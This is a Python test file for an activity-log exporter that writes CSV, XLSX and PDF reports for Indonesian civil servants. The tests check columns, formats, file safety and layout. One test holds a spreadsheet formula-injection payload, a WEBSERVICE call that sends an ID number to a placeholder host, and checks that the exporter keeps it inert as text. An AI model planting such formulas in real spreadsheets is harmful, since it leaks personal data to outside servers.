"""Exports of the activity log, each opened back and checked cell by cell: the CSV parsed, the
XLSX read with openpyxl, the PDF's text extracted. Column profiles; nothing half-written."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, time

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.conftest import MINUTE, MONDAY_0800_WIB
from wfh_desktop import export
from wfh_desktop.activity_log import build_log
from wfh_desktop.errors import UserError
from wfh_desktop.i18n import set_language
from wfh_desktop.sessions import SessionService
from wfh_desktop.tasks import TaskService
from wfh_desktop.timefmt import ZONES

HOUR = 60 * MINUTE
WIB = ZONES["WIB"]
MONDAY, TUESDAY = date(2026, 11, 2), date(2026, 11, 3)
NIP = "198501012010012001"


@pytest.fixture
def log(profile, clock):
    clock.set(MONDAY_0800_WIB + 3 * 24 * HOUR)
    for key, value in (
        ("account_nip", NIP),
        ("account_name", "Siti Aminah"),
        ("account_unit", "Biro Umum"),
    ):
        profile.conn.execute("INSERT INTO sync_meta(key, value) VALUES (?, ?)", (key, value))
    tasks, sessions = TaskService(profile), SessionService(profile)
    report = tasks.add("Menyusun laporan — revisi", 30, rhk="RHK 1", output="Laporan",
                       volume="1,5", unit="dokumen").id  # fmt: skip
    meeting = tasks.add('Rapat; koordinasi "tim"', 60).id
    sessions.add(report, MONDAY_0800_WIB, MONDAY_0800_WIB + 25 * MINUTE, note="draf")
    sessions.add(meeting, MONDAY_0800_WIB + 15 * HOUR + 30 * MINUTE,
                 MONDAY_0800_WIB + 16 * HOUR + 45 * MINUTE)  # fmt: skip
    tasks.mark_done(report)
    return build_log(profile, date(2026, 11, 1), date(2026, 11, 30), WIB)


EXPECTED = [
    [NIP, "Siti Aminah", "Biro Umum", "02/11/2026", "08.00", "08.25", "25",
     "Menyusun laporan — revisi", "RHK 1", "Laporan", "1,5", "dokumen", "30", "Ya", "", ""],
    [NIP, "Siti Aminah", "Biro Umum", "02/11/2026", "23.30", "24.00", "30",
     "Rapat; koordinasi \"tim\"", "", "", "", "", "60", "", "", ""],
    [NIP, "Siti Aminah", "Biro Umum", "03/11/2026", "00.00", "00.45", "45",
     "Rapat; koordinasi \"tim\"", "", "", "", "", "60", "", "", ""],
]  # fmt: skip


def test_csv_in_indonesian_reads_back_cell_by_cell(log, tmp_path):
    set_language("id")
    path = export.write_export(log, "csv", tmp_path / "a.csv", export.ExportProfile("default"))
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode())  # Excel opens it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "NIP", "Nama", "Unit kerja", "Tanggal", "Mulai (WIB)", "Selesai (WIB)", "Menit",
        "Kegiatan", "RHK", "Hasil kerja", "Volume", "Satuan", "Target (menit)",
        "Sesuai target", "Diterima dari", "Diserahkan kepada",
    ]  # fmt: skip
    assert rows[1:] == EXPECTED


def test_a_profile_chooses_columns_order_headings_and_styles(log, tmp_path):
    profile = export.ExportProfile(
        "regional",
        export.parse_columns("date, task ,minutes,volume,on_target"),
        export.parse_headers(["task=Uraian kegiatan", "minutes=Durasi"]),
        "iso",
        "colon",
        ",",
    )
    path = export.write_export(log, "csv", tmp_path / "b.csv", profile)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert rows == [
        ["Date", "Uraian kegiatan", "Durasi", "Volume", "On target"],
        ["2026-11-02", "Menyusun laporan — revisi", "25", "1.5", "Yes"],
        ["2026-11-02", 'Rapat; koordinasi "tim"', "30", "", ""],
        ["2026-11-03", 'Rapat; koordinasi "tim"', "45", "", ""],
    ]


def test_xlsx_holds_real_dates_times_and_numbers_and_a_summary(log, tmp_path):
    set_language("id")
    path = export.write_export(log, "xlsx", tmp_path / "a.xlsx", export.ExportProfile("default"))
    wb = load_workbook(path)
    sheet, summary = wb.worksheets
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0][3:8] == ["Tanggal", "Mulai (WIB)", "Selesai (WIB)", "Menit", "Kegiatan"]
    first = rows[1]
    assert first[:3] == [NIP, "Siti Aminah", "Biro Umum"]
    assert first[3] == datetime(2026, 11, 2)
    assert (first[4], first[5], first[6]) == (time(8, 0), time(8, 25), 25)
    assert first[7:14] == ["Menyusun laporan — revisi", "RHK 1", "Laporan", 1.5, "dokumen", 30,
                           "Ya"]  # fmt: skip
    assert sheet.cell(2, 4).number_format == "dd/mm/yyyy"
    assert rows[2][5] == "24.00" and rows[3][4] == time(0, 0) and rows[3][6] == 45
    assert len(rows) == 4
    facts = {r[0]: r[1] for r in summary.iter_rows(values_only=True) if r and r[0]}
    assert facts["Nama"] == "Siti Aminah" and facts["NIP"] == NIP
    assert facts["Jumlah menit"] == 100 and facts["Hari dengan kerja"] == 2
    per_day = [r for r in summary.iter_rows(values_only=True) if r and isinstance(r[0], datetime)]
    assert per_day == [(datetime(2026, 11, 2), 55), (datetime(2026, 11, 3), 45)]


def test_pdf_text_has_the_person_the_period_every_line_and_the_totals(log, tmp_path):
    set_language("id")
    path = export.write_export(log, "pdf", tmp_path / "a.pdf", export.ExportProfile("default"))
    reader = PdfReader(path)
    text = "\n".join(page.extract_text() for page in reader.pages)
    for expected in (
        "Laporan aktivitas harian",
        "Siti Aminah",
        NIP,
        "Biro Umum",
        "November 2026 (WIB)",
        "Menyusun laporan — revisi",
        "Rapat; koordinasi",
        "1 j 40 mnt (100 menit)",
        "02/11/2026",
        "03/11/2026",
        "Atasan langsung",
    ):
        assert expected in text, expected
    # Columns with nothing in them are left off the page; the person is in the heading.
    assert "Diterima dari" not in text and "Unit kerja" in text


def test_an_empty_period_still_gives_a_file_with_headings(profile, tmp_path):
    empty = build_log(profile, MONDAY, MONDAY, WIB)
    for fmt in export.FORMATS:
        path = export.write_export(empty, fmt, tmp_path / f"e.{fmt}", export.ExportProfile("x"))
        assert path.stat().st_size > 0
    assert PdfReader(tmp_path / "e.pdf").pages[0].extract_text().count("No work") == 1


def test_an_existing_file_is_replaced_only_when_asked_and_a_failed_export_leaves_it(
    log, tmp_path, monkeypatch
):
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "a.csv"
    target.write_text("my own notes")
    with pytest.raises(UserError, match="already exists"):
        export.write_export(log, "csv", target, export.ExportProfile("default"))
    assert target.read_text() == "my own notes"

    def breaks_halfway(log, profile, f):
        f.write(b"half a file")
        raise OSError(28, "No space left on device")

    monkeypatch.setitem(export._WRITERS, "csv", breaks_halfway)
    with pytest.raises(UserError, match="No space left"):
        export.write_export(log, "csv", target, export.ExportProfile("default"), overwrite=True)
    assert target.read_text() == "my own notes"
    assert sorted(p.name for p in target.parent.iterdir()) == ["a.csv"]  # no part file left


def test_a_missing_folder_or_a_folder_as_the_file_is_a_clear_error(log, tmp_path):
    with pytest.raises(UserError, match="does not exist"):
        export.write_export(log, "csv", tmp_path / "nope" / "a.csv", export.ExportProfile("d"))
    with pytest.raises(UserError, match="is a folder"):
        export.write_export(log, "csv", tmp_path, export.ExportProfile("d"), overwrite=True)


def test_profiles_are_saved_listed_and_removed_and_a_broken_file_is_reported(tmp_path):
    profile = export.ExportProfile(
        "ekinerja", ("date", "task"), {"task": "Uraian"}, "iso", "dot", "\t"
    )
    export.save_profile(tmp_path, profile)
    assert export.load_profiles(tmp_path) == {"ekinerja": profile}
    assert export.find_profile(tmp_path, "ekinerja") == profile
    assert export.find_profile(tmp_path, None).columns == export.DEFAULT_COLUMNS
    export.remove_profile(tmp_path, "ekinerja")
    assert export.load_profiles(tmp_path) == {}
    with pytest.raises(UserError, match="no export profile named 'x'"):
        export.find_profile(tmp_path, "x")
    (tmp_path / export.PROFILES_FILE).write_text("{not json")
    with pytest.raises(UserError, match="cannot be read"):
        export.load_profiles(tmp_path)
    assert (tmp_path / export.PROFILES_FILE).read_text() == "{not json"  # never overwritten


@pytest.mark.parametrize(
    ("columns", "message"),
    [("date,nope", "Unknown column 'nope'"), ("date,date", "named twice"), (" , ", "at least")],
)
def test_bad_columns_are_refused(columns, message):
    with pytest.raises(UserError, match=message):
        export.parse_columns(columns)


def test_the_format_comes_from_the_option_or_the_file_name():
    assert export.format_for(None, None) == "xlsx"
    assert export.format_for(None, export.Path("x.PDF")) == "pdf"
    assert export.format_for("csv", export.Path("x.pdf")) == "csv"
    with pytest.raises(UserError, match="Unknown export format 'docx'"):
        export.format_for(None, export.Path("x.docx"))


def test_a_long_period_prints_a_line_a_month_not_a_day(log, profile, tmp_path):
    set_language("id")
    two_months = build_log(profile, date(2026, 10, 1), date(2026, 11, 30), WIB)
    path = export.write_export(
        two_months, "pdf", tmp_path / "b.pdf", export.ExportProfile("default")
    )
    text = "\n".join(page.extract_text() for page in PdfReader(path).pages)
    assert "Bulan" in text and "November 2026 100 2" in text
    assert "03/11/2026 45" not in text  # no per-day line


def _one_line(profile, clock, title, **fields):
    clock.set(MONDAY_0800_WIB + 24 * HOUR)
    task = TaskService(profile).add(title, 30, **fields)
    SessionService(profile).add(task.id, MONDAY_0800_WIB, MONDAY_0800_WIB + 25 * MINUTE,
                                note=fields.get("output"))  # fmt: skip
    return build_log(profile, MONDAY, MONDAY, WIB)


def test_text_that_looks_like_a_formula_or_a_link_stays_text(profile, clock, tmp_path):
    evil = '=WEBSERVICE("https://contoh.invalid/?nip="&A2)'
    log = _one_line(profile, clock, evil, output="mailto:kepala@contoh.go.id")
    path = export.write_export(log, "xlsx", tmp_path / "a.xlsx", export.ExportProfile("d"))
    sheet = load_workbook(path).worksheets[0]
    task_cell, output_cell = sheet.cell(2, 8), sheet.cell(2, 10)
    assert (task_cell.value, task_cell.data_type) == (evil, "s")
    assert output_cell.value == "mailto:kepala@contoh.go.id" and output_cell.hyperlink is None
    guarded = export.write_export(log, "csv", tmp_path / "a.csv", export.ExportProfile("d"))
    row = list(csv.reader(io.StringIO(guarded.read_text(encoding="utf-8-sig")), delimiter=";"))[1]
    assert row[7] == "'" + evil  # a spreadsheet shows it, never runs it
    raw = export.ExportProfile("upload", formula_guard=False)
    plain = export.write_export(log, "csv", tmp_path / "b.csv", raw)
    row = list(csv.reader(io.StringIO(plain.read_text(encoding="utf-8-sig")), delimiter=";"))[1]
    assert row[7] == evil


def test_letters_the_pdf_font_lacks_print_as_a_question_mark_and_are_named(
    profile, clock, tmp_path
):
    log = _one_line(profile, clock, "Kajian كتاب 会议 ✅ Ğüçlü")
    assert export.unprintable(log) == {"ك", "ت", "ا", "ب", "会", "议", "✅"}
    path = export.write_export(log, "pdf", tmp_path / "a.pdf", export.ExportProfile("d"))
    text = PdfReader(path).pages[0].extract_text()
    assert "Kajian ???? ?? ? Ğüçlü" in text


def test_a_note_longer_than_a_page_is_cut_and_never_runs_off_it(profile, clock, tmp_path):
    clock.set(MONDAY_0800_WIB + 24 * HOUR)
    task = TaskService(profile).add("Laporan", 30)
    SessionService(profile).add(task.id, MONDAY_0800_WIB, MONDAY_0800_WIB + MINUTE,
                                note="kata " * 3000 + "AKHIR")  # fmt: skip
    log = build_log(profile, MONDAY, MONDAY, WIB)
    profile_ = export.ExportProfile("n", ("date", "task", "note"))
    reader = PdfReader(export.write_export(log, "pdf", tmp_path / "n.pdf", profile_))
    text = "\n".join(p.extract_text() for p in reader.pages)
    assert "…" in text and "AKHIR" not in text


def test_large_volumes_are_never_in_scientific_notation(profile, clock, tmp_path):
    log = _one_line(profile, clock, "Pengadaan", volume="2500000,25", unit="rupiah")
    path = export.write_export(log, "csv", tmp_path / "v.csv", export.ExportProfile("d"))
    row = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))[1]
    assert row[10] == "2500000,25"


def test_a_profile_edited_by_hand_is_reported_and_the_others_still_work(tmp_path):
    good = export.ExportProfile("ekinerja", ("date", "task"))
    export.save_profile(tmp_path, good)
    path = tmp_path / export.PROFILES_FILE
    data = json.loads(path.read_text())
    data["profiles"]["rusak"] = {"columns": [1, 2], "headers": {"task": None}}
    path.write_text(json.dumps(data))
    assert export.load_profiles(tmp_path) == {"ekinerja": good}
    assert export.broken_profiles(tmp_path) == ["rusak"]
    with pytest.raises(UserError, match=r"'rusak' .* is not valid"):
        export.find_profile(tmp_path, "rusak")
    export.save_profile(tmp_path, export.ExportProfile("rusak", ("date",)))  # replaced
    assert export.broken_profiles(tmp_path) == []
    path.write_text("[1, 2]")  # not profiles at all: reported, and never overwritten
    with pytest.raises(UserError, match="cannot be read"):
        export.save_profile(tmp_path, good)
    assert path.read_text() == "[1, 2]"


def test_the_pdf_table_has_its_column_rules_on_its_last_page(log, tmp_path):
    path = export.write_export(log, "pdf", tmp_path / "r.pdf", export.ExportProfile("d"))
    stream = PdfReader(path).pages[0].get_contents().get_data().decode("latin-1")
    lines = stream.count(" l S")
    columns = 11  # date, start, end, minutes, task, RHK, output, volume, unit, target, on target
    rows = len(log.entries) + 1
    # a rule under each row, the top, the left edge and one after each column; the per-day
    # table below has its own
    assert lines >= rows + 2 + columns + 3
